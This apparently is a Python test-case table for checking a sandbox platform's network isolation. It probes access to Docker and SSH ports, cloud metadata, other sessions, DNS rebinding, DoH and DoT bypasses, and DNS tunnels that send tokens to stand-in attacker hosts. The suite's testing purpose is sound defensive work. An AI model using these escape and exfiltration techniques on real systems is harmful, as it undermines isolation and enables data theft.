"""The platform itself and other sessions; and classes other than the listed one."""

from __future__ import annotations

from ..places import DOH_NAMES
from .table import Case, case

PROXY = "{gw}:3128"
# Ports of hosts, and which hosts. Where the real service is not there, a stand-in listens (suite.py).
PORTS = {
    "SSH": 22, "Docker API": 2376, "Docker API without TLS": 2375, "Swarm's managers": 2377, "Swarm's gossip": 7946, "registry": 5000,
    "registry, the write side": 5001, "homes service": 8700, "egress daemon": 8701, "session agent": 8702, "rpcbind": 111, "NFS": 2049, "NFS mount": 20048, "SMB": 445,
    "Traefik's API": 8099, "metrics": 9100, "a published port": 32768, "squid of the node": 3128,
}  # fmt: skip
UDP = {"Swarm's gossip": 7946, "VXLAN": 4789, "rpcbind": 111, "NFS": 2049, "DNS": 53}
DOCKER = ("Docker API", "Docker API without TLS")
NFS = ("rpcbind", "NFS", "NFS mount", "SMB")
PUSH = ("registry", "registry, the write side")
HUB = "the hub itself asks for a token; it is not part of this world, and tests/site looks at it"


def _family(service: str, host: str) -> str:
    if service in DOCKER:
        return "Docker API"
    if service in NFS:
        return "NFS ports"
    if service in PUSH:
        return "registry push"
    return {"gw": "the node", "node": "the node", "peer": "another node", "control": "the control host"}[host]


def cases() -> list[Case]:
    return [*_platform(), *_sessions(), *_open(), *_none()]


def _platform() -> list[Case]:
    found = []
    for service, port in PORTS.items():
        for host in ("node", "gw", "peer", "control"):
            if service == "squid of the node" and host in ("gw", "node", "control"):
                continue
            quiet = "the engine has the port, on the node's own address alone" if (host, port) == ("gw", 2376) else ""
            found.append(case(_family(service, host), f"{service} ({host})", "reach", dial=f"{{{host}}}:{port}", sign="connected", unshown=quiet))
    for service, port in UDP.items():
        for host in ("node", "control"):
            quiet = "the real service has the port, and answers nothing" if host == "node" and port in (7946, 4789) else ""
            found.append(case(_family(service, host), f"{service} by UDP ({host})", "datagram", to=f"{{{host}}}:{port}", unshown=quiet))
    for name, text in (("Docker API", "{control}:2376"), ("Docker API of the node", "127.0.0.1:2375"), ("homes service", "{control}:8700"), ("Swarm", "{control}:7946"),
                       ("egress daemon", "{node}:8701"), ("session agent", "{node}:8702"), ("SSH of the node", "{node}:22")):  # fmt: skip
        found.append(case("the platform by the proxy", f"CONNECT to {name}", "stream", dial=PROXY, connect=text, send="{token}\n",
                          sign="text:SSH" if "SSH" in name else ""))  # fmt: skip
        found.append(case("the platform by the proxy", f"GET from {name}", "stream", dial=PROXY, send=f"GET http://{text}/{{token}} HTTP/1.1\r\nHost: {text}\r\n\r\n",
                          sign="text:SSH" if "SSH" in name else ""))  # fmt: skip
    found += [
        case("hub API without token", name, "stream", dial="{control}:8081", send=f"{method} /hub/api/{path} HTTP/1.1\r\nHost: hub\r\nX: {{token}}\r\nContent-Length: 0\r\n\r\n",
             sign="text:\"last_activity\"", unshown=HUB)
        for name, method, path in (("list users", "GET", "users"), ("list services", "GET", "services"), ("start a server", "POST", "users/ada/server"),
                                   ("make a token", "POST", "users/ada/tokens"), ("read the proxy", "GET", "proxy"))
    ]  # fmt: skip
    return found


def _sessions() -> list[Case]:
    found = []
    same, far = "another session, same node", "another session, other node"
    found += [
        case(same, "its port", "stream", dial="{same}:8888", send="{token}\n"),
        case(same, "another port", "stream", dial="{same}:9999", send="{token}\n"),
        case(same, "UDP", "datagram", to="{same}:8888"),
        case(same, "of another class", "stream", dial="{other}:8888", send="{token}\n"),
        case(same, "of another class, UDP", "datagram", to="{other}:8888"),
        case(same, "its published port by the node's address", "reach", dial="{node}:{same_port}", sign="connected"),
        case(same, "its published port by the gateway", "reach", dial="{gw}:{same_port}", sign="connected"),
        case(same, "of another class by its published port", "reach", dial="{node}:{other_port}", sign="connected"),
        case(same, "by the proxy", "stream", dial=PROXY, send="GET http://{same}:8888/{token} HTTP/1.1\r\nHost: {same}\r\n\r\n"),
        case(same, "its published port by the proxy", "stream", dial=PROXY, send="GET http://{node}:{same_port}/{token} HTTP/1.1\r\nHost: {same}\r\n\r\n"),
        case(same, "by a listed name that leads there", "rebind", name="r-addr-{same_dashed}-{token}.wild.example", port=8888, way="absolute"),
        case(far, "its published port", "reach", dial="{peer}:{far_port}", sign="connected"),
        case(far, "its published port by the proxy", "stream", dial=PROXY, send="GET http://{peer}:{far_port}/{token} HTTP/1.1\r\nHost: x\r\n\r\n"),
        case(far, "CONNECT to its published port", "stream", dial=PROXY, connect="{peer}:{far_port}", send="{token}\n"),
        case(far, "by a listed name that leads to its node", "rebind", name="r-host-compute2-{token}.wild.example", port=0, way="absolute",
             unshown="the port is only known when the session runs; the case of a rebound name and a service's port shows the same"),
        case(far, "the resolver of its node", "dns", name="{token}.attacker.example", kind="A", server="{peer}"),
    ]  # fmt: skip
    return found


def _open() -> list[Case]:
    """A class with the public internet: its names are all but denied ones, and never what is private."""
    family, found = "a class with the public internet", []

    def add(name: str, method: str, /, **more: object) -> None:
        found.append(case(family, name, method, klass="open", **more))  # type: ignore[arg-type]

    for place in ("internal", "metadata"):
        add(f"{place}, HTTP", "stream", dial=f"{{{place}}}:80", http=f"{{{place}}}")
        add(f"{place}, TLS with a public SNI", "stream", dial=f"{{{place}}}:443", tls="allowed.example", http="allowed.example")
        add(f"{place} by the proxy", "stream", dial=PROXY, send=f"GET http://{{{place}}}/{{token}} HTTP/1.1\r\nHost: x\r\n\r\n")
        add(f"CONNECT to {place}", "stream", dial=PROXY, connect=f"{{{place}}}:443", tls="allowed.example", http="x")
        add(f"{place}, another port", "stream", dial=f"{{{place}}}:9100", send="{token}\n")
    for name in DOH_NAMES[:4]:
        add(f"DoH, {name}", "stream", dial=PROXY, connect=f"{name}:443", tls=name, doh=f"get {name}")
        add(f"DoH, {name} by address", "stream", dial="{doh}:443", tls=name, doh=f"get {name}")
        add(f"DNS of {name}", "dns", name=name, kind="A", sign="text:\xcb\0\x71\x08")
    for kind in ("internal", "metadata", "cname", "flip", "both"):
        add(f"rebinding, {kind}", "rebind", name=f"r-{kind}-{{token}}.attacker.example", port=80, sign="address")
        add(f"rebinding by the proxy, {kind}", "rebind", name=f"r-{kind}-{{token}}.attacker.example", port=443, way="connect")
    add("DoT", "stream", dial="{attacker_dns}:853", tls="attacker.example", dot="t.attacker.example")
    add("DoT by CONNECT", "stream", dial=PROXY, connect="dns.google:853", tls="dns.google", dot="t.attacker.example")
    add("QUIC", "datagram", to="{attacker}:443", form="quic")
    add("UDP 53", "dns", name="{token}.t.attacker.example", server="{attacker_dns}")
    add("TCP 53", "dns", name="{token}.t.attacker.example", server="{attacker_dns}", tcp=True)
    add("the site's nameserver", "dns", name="{token}.t.attacker.example", server="{nameserver}")
    add("UDP 9999", "datagram", to="{attacker}:9999")
    add("a denied name by CONNECT", "stream", dial=PROXY, connect="denied.example:443", tls="denied.example", http="denied.example")
    add("a denied name as SNI", "stream", dial="{attacker}:443", tls="denied.example", http="denied.example")
    add("a denied name as SNI behind another CONNECT", "stream", dial=PROXY, connect="attacker.example:443", tls="denied.example", http="x")
    add("a denied name in DNS", "dns", name="denied.example", kind="A", sign="text:\xc6\x33\x64\x42")
    add("a deny-listed name", "stream", dial=PROXY, connect="pool.mining.example:443", tls="pool.mining.example", http="pool.mining.example")
    add("ECH", "stream", dial="{attacker}:443", tls="attacker.example", hello="ech")
    add("a tunnel by TXT", "dns", name="{token}.t.attacker.example", kind="TXT")
    add("a tunnel by NULL", "dns", name="{token}.t.attacker.example", kind="NULL")
    add("SSH of the node", "reach", dial="{node}:22", sign="connected")
    add("Docker API", "reach", dial="{control}:2376", sign="connected")
    add("a session of the listed class", "stream", dial="{same}:8888", send="{token}\n")
    add("ICMP", "ip4", to="{attacker}", protocol=1, where="netns")
    add("SCTP", "ip4", to="{attacker}", protocol=132, where="netns")
    add("another protocol", "ip4", to="{attacker}", protocol=94, where="netns")
    add("IPv6", "ip6", to="{attacker6}", dport=9999, where="netns")
    return found


def _none() -> list[Case]:
    """A class without anything."""
    family = "a class without anything"
    rows: list[tuple[str, str, dict[str, object]]] = [
        ("a name that other classes list", "stream", {"dial": "{allowed}:443", "tls": "allowed.example", "http": "allowed.example"}),
        ("the proxy", "stream", {"dial": PROXY, "connect": "allowed.example:443", "tls": "allowed.example", "http": "allowed.example"}),
        ("a plain request by the proxy", "stream", {"dial": PROXY, "send": "GET http://allowed.example/{token} HTTP/1.1\r\nHost: allowed.example\r\n\r\n"}),
        ("the resolver", "dns", {"name": "{token}.wild.example", "kind": "A"}),
        ("the listed class's proxy", "stream", {"dial": "{gw_listed}:3128", "connect": "cdn.example:443", "tls": "cdn.example", "http": "cdn.example"}),
        ("the listed class's resolver", "dns", {"name": "{token}.wild.example", "kind": "A", "server": "{gw_listed}"}),
        ("an address that other classes list", "stream", {"dial": "{listed}:443", "send": "{token}\n"}),
        ("UDP that other classes list", "datagram", {"to": "{listed}:9999"}),
        ("metadata", "stream", {"dial": "{metadata}:80", "http": "x"}),
        ("the attacker", "stream", {"dial": "{attacker}:443", "send": "{token}\n"}),
        ("a session of another class", "stream", {"dial": "{same}:8888", "send": "{token}\n"}),
    ]  # fmt: skip
    return [case(family, name, method, klass="none", **arguments) for name, method, arguments in rows]  # type: ignore[arg-type]
